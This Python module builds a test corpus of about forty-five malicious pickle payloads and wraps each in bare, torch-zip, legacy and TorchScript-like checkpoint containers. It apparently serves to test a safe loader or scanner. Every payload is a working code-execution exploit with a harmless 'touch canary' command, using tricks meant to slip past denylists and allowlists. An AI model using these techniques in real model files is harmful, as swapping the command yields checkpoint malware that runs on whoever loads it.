"""A corpus of malicious pickles, written opcode by opcode.

Every entry really runs its payload under ``pickle.load``: it creates the
file ``canary`` in the current folder (``tests/test_safety.py`` proves it in
a subprocess, in a fresh folder per entry). Each uses a different trick to
reach code execution: the classic ``GLOBAL``/``REDUCE`` of ``os.system``,
``STACK_GLOBAL``, ``INST``, ``OBJ``, ``NEWOBJ``/``NEWOBJ_EX`` of
``types.FunctionType``, the copyreg extension registry (``EXT1/2/4``),
getattr/import chains, ``functools.partial``, ``operator`` helpers, nested
``pickle.loads`` / ``marshal`` / ``numpy.load`` / ``torch.load``, torch and
numpy rebuild functions fed malicious arguments, memo tricks, the
``__setstate__`` override, dotted names through module aliases, payloads
hidden in persistent ids, object arrays and OrderedDict attributes.

``containers`` embeds a pickle in the places a checkpoint carries pickles:
a bare pickle file, a torch zip's ``data.pkl``, an extra ``.pkl`` member of
a torch zip, a legacy (pre-1.6) torch file and a TorchScript-like archive's
``constants.pkl``.

Only bytes are built here; nothing is unpickled.
"""
from __future__ import annotations

import io
import marshal
import pickle
import struct
import zipfile
from dataclasses import dataclass

CANARY = "canary"
CMD = "touch canary"
PY = "open('canary', 'w').close()"

# --- opcode helpers (protocol 0-5 opcodes from Lib/pickle.py) -----------------------------

P0 = b""
P2 = b"\x80\x02"
P3 = b"\x80\x03"
P4 = b"\x80\x04"
MARK, STOP, REDUCE, BUILD, TUPLE, NONE = b"(", b".", b"R", b"b", b"t", b"N"
TUPLE1, TUPLE2, TUPLE3, EMPTY_TUPLE = b"\x85", b"\x86", b"\x87", b")"
EMPTY_DICT, EMPTY_LIST, APPEND, APPENDS, SETITEM, SETITEMS = b"}", b"]", b"a", b"e", b"s", b"u"
NEWOBJ, NEWOBJ_EX, STACK_GLOBAL, MEMOIZE, OBJ, POP = b"\x81", b"\x92", b"\x93", b"\x94", b"o", b"0"
BINPERSID, NEWFALSE, NEWTRUE = b"Q", b"\x89", b"\x88"


def g(module: str, name: str) -> bytes:
    """GLOBAL module name (protocol 0+)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def u(s: str) -> bytes:
    """BINUNICODE (protocol 1+ in practice)."""
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def su(s: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def by(b: bytes) -> bytes:
    """BINBYTES (protocol 3)."""
    return b"B" + struct.pack("<I", len(b)) + b


def i1(v: int) -> bytes:
    return b"K" + bytes([v])


def put(n: int) -> bytes:
    return b"q" + bytes([n])


def get(n: int) -> bytes:
    return b"h" + bytes([n])


def call1(func: bytes, arg: bytes) -> bytes:
    return func + arg + TUPLE1 + REDUCE


def code_bytes(src: str = PY) -> bytes:
    return marshal.dumps(compile(src, "<payload>", "exec"))


def npy_object_file(pickled: bytes, descr="|O") -> bytes:
    """A .npy file of object dtype: numpy.load(allow_pickle=True) unpickles its body.
    ``descr``: any spelling numpy reads as an object dtype ('O8', 'object', ...)."""
    header = "{'descr': %r, 'fortran_order': False, 'shape': (1,), }" % (descr,)
    header += " " * (-(10 + len(header) + 1) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickled


@dataclass(frozen=True)
class Payload:
    name: str
    data: bytes
    expect: tuple[str, ...]      # the refusal line names one of these
    trick: str
    setup: str = ""              # run before pickle.load in the proof (copyreg registry)
    needs_torch: bool = False    # the pickle imports torch while it runs


def _system_p2(module="posix", name="system") -> bytes:
    return P2 + call1(g(module, name), u(CMD)) + STOP


def corpus() -> list[Payload]:
    system = g("posix", "system")
    inner = _system_p2()
    out = [
        Payload("os_system_protocol0", b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR.",
                ("os.system",), "GLOBAL + REDUCE, text protocol 0"),
        Payload("posix_system_protocol2", _system_p2(), ("posix.system",), "GLOBAL + REDUCE"),
        Payload("stack_global_protocol4",
                P4 + su("os") + MEMOIZE + su("system") + MEMOIZE
                + STACK_GLOBAL + MEMOIZE + su(CMD) + MEMOIZE + TUPLE1 + MEMOIZE + REDUCE + MEMOIZE
                + STOP, ("os.system",), "STACK_GLOBAL (protocol 4, memoized names)"),
        Payload("inst_opcode", b"(S'" + CMD.encode() + b"'\nios\nsystem\n.", ("os.system",),
                "INST builds an instance by calling the class with the marked items"),
        Payload("obj_opcode", P2 + MARK + system + u(CMD) + OBJ + STOP, ("posix.system",),
                "OBJ calls the first marked item"),
        Payload("builtins_exec", P2 + call1(g("builtins", "exec"), u(PY)) + STOP,
                ("builtins.exec",), "exec of Python source"),
        Payload("builtins_eval_py2_name", b"c__builtin__\neval\n(S\"" + PY.encode() + b"\"\ntR.",
                ("__builtin__.eval",), "Python 2 module name, mapped to builtins by pickle"),
        Payload("subprocess_check_call",
                P2 + g("subprocess", "check_call") + EMPTY_LIST + MARK + u("touch") + u(CANARY)
                + APPENDS + TUPLE1 + REDUCE + STOP, ("subprocess.check_call",),
                "subprocess with an argument list"),
        Payload("subprocess_getoutput", P2 + call1(g("subprocess", "getoutput"), u(CMD)) + STOP,
                ("subprocess.getoutput",), "shell via subprocess"),
        Payload("getattr_import_chain",
                P2 + g("builtins", "getattr") + call1(g("builtins", "__import__"), u("os"))
                + u("system") + TUPLE2 + REDUCE + u(CMD) + TUPLE1 + REDUCE + STOP,
                ("builtins.getattr",), "REDUCE on a getattr chain: getattr(__import__('os'), 'system')"),
        Payload("importlib_then_getattr",
                P2 + call1(g("importlib", "import_module"), u("os")) + put(0) + POP
                + g("builtins", "getattr") + get(0) + u("system") + TUPLE2 + REDUCE + u(CMD)
                + TUPLE1 + REDUCE + STOP, ("importlib.import_module",),
                "import_module result kept in the memo, fetched for getattr"),
        Payload("functools_partial",
                P2 + g("functools", "partial") + system + u(CMD) + TUPLE2 + REDUCE + EMPTY_TUPLE
                + REDUCE + STOP, ("functools.partial",), "partial(os.system, cmd)() "),
        Payload("operator_methodcaller",
                P2 + g("operator", "methodcaller") + u("system") + u(CMD) + TUPLE2 + REDUCE
                + call1(g("builtins", "__import__"), u("os")) + TUPLE1 + REDUCE + STOP,
                ("operator.methodcaller",), "methodcaller('system', cmd)(os)"),
        Payload("operator_attrgetter",
                P2 + g("operator", "attrgetter") + u("system") + TUPLE1 + REDUCE
                + call1(g("builtins", "__import__"), u("os")) + TUPLE1 + REDUCE + u(CMD) + TUPLE1
                + REDUCE + STOP, ("operator.attrgetter",), "attrgetter('system')(os)(cmd)"),
        Payload("operator_call", P2 + g("operator", "call") + system + u(CMD) + TUPLE2 + REDUCE
                + STOP, ("operator.call",), "operator.call(os.system, cmd)"),
        Payload("nested_pickle_loads", P3 + call1(g("pickle", "loads"), by(inner)) + STOP,
                ("pickle.loads",), "a pickle inside a pickle"),
        Payload("nested_cpickle_loads", P3 + call1(g("_pickle", "loads"), by(inner)) + STOP,
                ("_pickle.loads",), "the C unpickler inside a pickle"),
        Payload("marshal_function",
                P3 + call1(g("marshal", "loads"), by(code_bytes())) + put(0) + POP
                + g("types", "FunctionType") + get(0) + EMPTY_DICT + TUPLE2 + REDUCE
                + EMPTY_TUPLE + REDUCE + STOP, ("marshal.loads",),
                "marshal'd bytecode turned into a function and called"),
        Payload("newobj_function_type",
                P3 + g("builtins", "compile") + MARK + u(PY) + u("<p>") + u("exec") + TUPLE + REDUCE
                + put(0) + POP + g("types", "FunctionType")
                + get(0) + EMPTY_DICT + TUPLE2 + NEWOBJ + EMPTY_TUPLE + REDUCE + STOP,
                ("builtins.compile",), "NEWOBJ: FunctionType.__new__(code, {}), then called"),
        Payload("newobj_ex_function_type",
                P4 + call1(g("marshal", "loads"), by(code_bytes())) + put(0) + POP
                + g("types", "FunctionType") + get(0) + EMPTY_DICT + TUPLE2 + EMPTY_DICT + NEWOBJ_EX
                + EMPTY_TUPLE + REDUCE + STOP, ("marshal.loads",),
                "NEWOBJ_EX: FunctionType.__new__ with keyword arguments"),
        Payload("ext1_copyreg", P2 + b"\x82\xf0" + u(CMD) + TUPLE1 + REDUCE + STOP, ("EXT1",),
                "EXT1: callable from the copyreg extension registry",
                setup="copyreg.add_extension('posix', 'system', 0xf0)"),
        Payload("ext2_copyreg", P2 + b"\x83" + struct.pack("<H", 0x1234) + u(CMD) + TUPLE1
                + REDUCE + STOP, ("EXT2",), "EXT2: copyreg extension code",
                setup="copyreg.add_extension('os', 'system', 0x1234)"),
        Payload("ext4_copyreg", P2 + b"\x84" + struct.pack("<i", 0x12345678) + u(CMD) + TUPLE1
                + REDUCE + STOP, ("EXT4",), "EXT4: copyreg extension code",
                setup="copyreg.add_extension('subprocess', 'getoutput', 0x12345678)"),
        Payload("torch_load_from_bytes",
                P3 + call1(g("torch.storage", "_load_from_bytes"), by(inner)) + STOP,
                ("torch.storage._load_from_bytes",),
                "torch.storage._load_from_bytes runs torch.load(weights_only=False) on its bytes",
                needs_torch=True),
        Payload("rebuild_from_type_v2_dangerous_func",
                P2 + g("torch._tensor", "_rebuild_from_type_v2") + MARK + system + g("torch", "Tensor")
                + u(CMD) + TUPLE1 + EMPTY_DICT + TUPLE + REDUCE + STOP, ("posix.system",),
                "torch's _rebuild_from_type_v2 calls its first argument", needs_torch=True),
        Payload("rebuild_from_type_v2_innocent_func",
                P2 + g("torch._tensor", "_rebuild_from_type_v2") + MARK + g("wave", "Wave_write")
                + g("torch", "Tensor") + u(CANARY) + TUPLE1 + EMPTY_DICT + TUPLE + REDUCE + STOP,
                ("wave.Wave_write",),
                "_rebuild_from_type_v2 with a callable from a harmless-looking module",
                needs_torch=True),
        Payload("rebuild_tensor_v2_hidden_payload",
                P2 + g("torch._utils", "_rebuild_tensor_v2") + MARK + call1(system, u(CMD))
                + i1(0) + EMPTY_TUPLE + EMPTY_TUPLE + NEWFALSE + EMPTY_DICT + TUPLE + REDUCE + STOP,
                ("posix.system",), "payload among a tensor rebuild's arguments", needs_torch=True),
        Payload("numpy_object_array",
                P2 + g("numpy.core.multiarray", "_reconstruct") + g("numpy", "ndarray") + i1(0)
                + TUPLE1 + u("b") + TUPLE3 + REDUCE + MARK + i1(1) + i1(1) + TUPLE1
                + g("numpy", "dtype") + u("O8") + NEWFALSE + NEWTRUE + TUPLE3 + REDUCE
                + MARK + i1(3) + u("|") + NONE + NONE + NONE + b"J\xff\xff\xff\xff"
                + b"J\xff\xff\xff\xff" + i1(63) + TUPLE + BUILD + NEWFALSE + EMPTY_LIST
                + call1(g("wave", "Wave_write"), u(CANARY)) + APPEND + TUPLE + BUILD + STOP,
                ("numpy.dtype", "'object'"), "object ndarray whose elements run code"),
        Payload("numpy_load_allow_pickle",
                P3 + g("numpy", "load") + call1(g("io", "BytesIO"), by(npy_object_file(inner)))
                + NONE + NEWTRUE + TUPLE3 + REDUCE + STOP, ("numpy.load",),
                "numpy.load(allow_pickle=True) of an embedded object .npy"),
        Payload("numpy_savetxt", P2 + g("numpy", "savetxt") + u(CANARY) + EMPTY_LIST + TUPLE2
                + REDUCE + STOP, ("numpy.savetxt",), "a numpy function that writes files"),
        Payload("memo_overwrite",
                P2 + g("collections", "OrderedDict") + put(1) + POP + system + put(1) + POP
                + get(1) + u(CMD) + TUPLE1 + REDUCE + STOP, ("posix.system",),
                "a harmless name memoized, then the memo slot overwritten"),
        Payload("memo_obfuscated_stack_global",
                P4 + EMPTY_LIST + MARK + su("pos") + su("ix") + su("posix") + MEMOIZE + su("sys")
                + su("system") + MEMOIZE + APPENDS + POP + get(0) + get(1) + STACK_GLOBAL
                + su(CMD) + TUPLE1 + REDUCE + STOP, ("posix.system",),
                "STACK_GLOBAL names taken from the memo"),
        Payload("dotted_alias_name",
                P4 + su("argparse") + su("_os.system") + STACK_GLOBAL + su(CMD) + TUPLE1 + REDUCE
                + STOP, ("argparse._os.system",),
                "a dotted name through a module's private alias (argparse._os)"),
        Payload("setstate_override",
                P2 + g("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT
                + u("__setstate__") + g("wave", "Wave_write") + SETITEM + BUILD + u(CANARY)
                + BUILD + STOP, ("__setstate__",),
                "BUILD puts __setstate__ in the instance; the next BUILD calls it"),
        Payload("persistent_id_hides_payload",
                P2 + MARK + u("storage") + call1(system, u(CMD)) + u("0") + u("cpu") + i1(1)
                + TUPLE + BINPERSID + STOP, ("posix.system",),
                "payload inside a persistent id tuple"),
        Payload("cprofile_run", P2 + call1(g("cProfile", "run"), u(PY)) + STOP, ("cProfile.run",),
                "a profiler that execs its argument"),
        Payload("timeit_timeit", P2 + g("timeit", "timeit") + MARK + u(PY) + u("pass")
                + g("time", "perf_counter") + i1(1) + TUPLE + REDUCE + STOP, ("timeit.timeit",),
                "timeit compiles and runs its statement"),
        Payload("runpy_run_code", P2 + g("runpy", "_run_code") + u(PY) + EMPTY_DICT + TUPLE2
                + REDUCE + STOP, ("runpy._run_code",), "runpy's exec helper"),
        Payload("pydoc_pipepager", P2 + g("pydoc", "pipepager") + u("x") + u(CMD) + TUPLE2
                + REDUCE + STOP, ("pydoc.pipepager",), "pydoc pipes text into a shell command"),
        Payload("torch_save_writes", P2 + g("torch", "save") + EMPTY_DICT + u(CANARY) + TUPLE2
                + REDUCE + STOP, ("torch.save",), "torch.save writes a file", needs_torch=True),
        Payload("copyreg_reconstructor",
                P2 + g("copyreg", "_reconstructor") + g("wave", "Wave_write") + g("wave", "Wave_write")
                + u(CANARY) + TUPLE3 + REDUCE + STOP, ("copyreg._reconstructor",),
                "copyreg._reconstructor calls base.__init__(obj, state)"),
        Payload("io_open", P2 + g("io", "open") + u(CANARY) + u("w") + TUPLE2 + REDUCE + STOP,
                ("io.open",), "opens (creates) a file"),
        Payload("allowlisted_set_of_lazy_map",
                P2 + g("builtins", "set") + g("builtins", "map") + system + EMPTY_LIST + u(CMD)
                + APPEND + TUPLE2 + REDUCE + TUPLE1 + REDUCE + STOP, ("builtins.map",),
                "an allowlisted constructor (set) consuming a lazy map(os.system, ...)"),
        Payload("innocent_module_class",
                P2 + call1(g("wave", "Wave_write"), u(CANARY)) + STOP, ("wave.Wave_write",),
                "a class from a module no denylist names: only an allowlist stops it"),
        Payload("ordereddict_attribute_payload",
                P2 + g("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + EMPTY_DICT
                + u("_metadata") + call1(g("subprocess", "getoutput"), u(CMD)) + SETITEM + BUILD
                + STOP, ("subprocess.getoutput",),
                "payload in a state dict's _metadata attribute (BUILD)"),
        Payload("state_dict_with_hidden_payload",
                P2 + g("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + MARK + u("layer.weight")
                + b"G" + struct.pack(">d", 1.5) + u("layer.bias") + g("os", "spawnlp") + MARK + i1(0)
                + u("touch") + u("touch") + u(CANARY) + TUPLE + REDUCE + SETITEMS + STOP, ("os.spawnlp",),
                "an ordinary-looking state dict, one value runs code"),
    ]
    names = [p.name for p in out]
    assert len(names) == len(set(names)), "duplicate corpus names"
    return out


# --- containers ---------------------------------------------------------------------------

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
_SYS_INFO = {"protocol_version": 1001, "little_endian": True,
             "type_sizes": {"short": 2, "int": 4, "long": 4}}
_EMPTY_DICT_PICKLE = P2 + EMPTY_DICT + STOP


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def bare(p: bytes) -> bytes:
    return p


def torch_zip(p: bytes) -> bytes:
    """``torch.save``'s layout with the payload as ``data.pkl``."""
    return _zip({"archive/data.pkl": p, "archive/byteorder": b"little", "archive/version": b"3\n",
                 "archive/.data/serialization_id": b"0" * 40})


def torch_zip_extra(p: bytes) -> bytes:
    """A harmless torch zip carrying the payload in another ``.pkl`` member."""
    return _zip({"archive/data.pkl": _EMPTY_DICT_PICKLE, "archive/byteorder": b"little",
                 "archive/extra/hidden.pkl": p, "archive/version": b"3\n"})


def legacy(p: bytes) -> bytes:
    """Pre-1.6 ``torch.save``: magic, protocol, sys_info, main pickle (the payload), keys."""
    return (pickle.dumps(LEGACY_MAGIC, protocol=2) + pickle.dumps(1001, protocol=2)
            + pickle.dumps(_SYS_INFO, protocol=2) + p + pickle.dumps([], protocol=2))


def torchscript(p: bytes) -> bytes:
    """A TorchScript-like archive: code/, a harmless data.pkl, the payload as constants.pkl."""
    return _zip({"archive/data.pkl": _EMPTY_DICT_PICKLE, "archive/constants.pkl": p,
                 "archive/code/__torch__.py": b"class Net(Module):\n  pass\n",
                 "archive/byteorder": b"little", "archive/version": b"3\n"})


CONTAINERS = {"bare": (bare, ".pkl"), "zip": (torch_zip, ".pt"), "zip_extra": (torch_zip_extra, ".pt"),
              "legacy": (legacy, ".pt"), "torchscript": (torchscript, ".pt")}


def write_corpus(folder, payloads=None) -> dict[tuple[str, str], object]:
    """Every payload in every container under ``folder``; {(payload, container): path}."""
    from pathlib import Path

    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    for p in payloads or corpus():
        for cname, (wrap, ext) in CONTAINERS.items():
            path = folder / f"{p.name}.{cname}{ext}"
            path.write_bytes(wrap(p.data))
            out[(p.name, cname)] = path
    return out


# The proof harness: run in a subprocess, it pickle.loads each payload in a
# fresh folder and prints which ones created their canary.
PROOF_SCRIPT = r'''
import copyreg, json, os, pickle, sys, warnings
warnings.simplefilter("ignore")
entries = json.loads(sys.stdin.read())
for e in entries:
    if e["setup"]:
        exec(e["setup"])
result = {}
for e in entries:
    os.chdir(e["dir"])
    try:
        with open(e["file"], "rb") as f:
            LOADER(f)
    except BaseException:
        pass
    result[e["name"]] = os.path.exists(os.path.join(e["dir"], "canary"))
sys.stderr.flush()
print(json.dumps(result))
'''
